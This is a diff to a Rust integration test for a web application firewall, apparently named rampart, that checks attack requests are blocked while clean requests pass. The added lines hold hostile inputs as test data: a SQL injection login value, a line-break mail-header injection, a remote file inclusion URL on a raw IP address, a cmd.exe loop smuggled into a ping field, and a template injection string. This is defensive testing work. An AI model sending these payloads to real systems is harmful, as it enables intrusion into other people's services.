@@ -42,6 +42,20 @@ async fn attacks_are_blocked_in_every_location_and_clean_requests_pass_intact() 
             .post(url("/upload"))
             .header("content-type", "application/octet-stream")
             .header("x-file-name", "shell.php5"),
+        // A quote closed into SQL that comments out the rest, a mail command appended after a
+        // line break, a remote script on an address, a cmd.exe loop, a call by a template.
+        client
+            .post(url("/login"))
+            .json(&serde_json::json!({"email": "admin@example.com' or email glob email--"})),
+        client.get(url(
+            "/contact?to=%0d%0aRCPT%20TO%3A%3Cvictim%40example.com%3E",
+        )),
+        client.get(url("/thumb?src=http%3A%2F%2F66.240.183.75%2Fcrash.php")),
+        client
+            .post(url("/ping"))
+            .header("content-type", "application/x-www-form-urlencoded")
+            .body("host=%26+FOR+%25-+IN+%28a%2Cb%2Cc%29+DO+cmd"),
+        client.get(url("/search?q=%5B%5D.sort.call%60%24%7Balert%7D1337%60")),
     ];
     for attack in attacks {
         let response = attack.send().await.unwrap();
@@ -72,6 +86,7 @@ async fn attacks_are_blocked_in_every_location_and_clean_requests_pass_intact() 
             {"role": "user", "content": "How do I list hidden files? `ls` shows none."},
             {"role": "assistant", "content": "Use `ls -la`:\n```sh\ncd /var/www && ls -la\ncat .env | head -5\n```\nThen check the owner."},
             {"role": "user", "content": "And `kill -9 $(lsof -t -i:3000)` frees the port?"},
+            {"role": "user", "content": "Then I say 'Hello' and goodbye;"},
         ]
     });
     let response = client
@@ -90,7 +105,7 @@ async fn attacks_are_blocked_in_every_location_and_clean_requests_pass_intact() 
     envelope(response, 403, "attack_detected").await;
 
     let metrics = rampart.metrics().await;
-    for family in ["sqli", "lfi", "java", "xss", "rce", "ssti", "nosql"] {
+    for family in ["sqli", "lfi", "rfi", "java", "xss", "rce", "ssti", "nosql"] {
         assert!(
             metrics.contains(&format!(
                 "rampart_attack_filter_findings_total{{route=\"/\",family=\"{family}\",action=\"blocked\"}}"
